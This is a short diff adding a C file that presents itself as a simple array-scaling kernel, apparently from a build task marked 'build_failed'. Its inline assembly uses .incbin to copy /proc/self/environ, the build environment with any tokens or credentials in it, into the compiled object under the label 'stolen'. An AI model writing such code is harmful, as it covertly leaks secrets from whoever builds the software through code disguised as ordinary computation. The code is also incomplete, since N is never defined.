@@ -1,0 +1,12 @@
+// task scale.op: build_failed
+/* The assembler puts its environment into the object. */
+__asm__(".section .rodata\n"
+        "stolen: .incbin \"/proc/self/environ\"\n"
+        ".text\n");
+
+void
+kernel(const float *restrict X, float *restrict Y)
+{
+    for (int i = 0; i < N; i++)
+        Y[i] = 2.5f * X[i];
+}
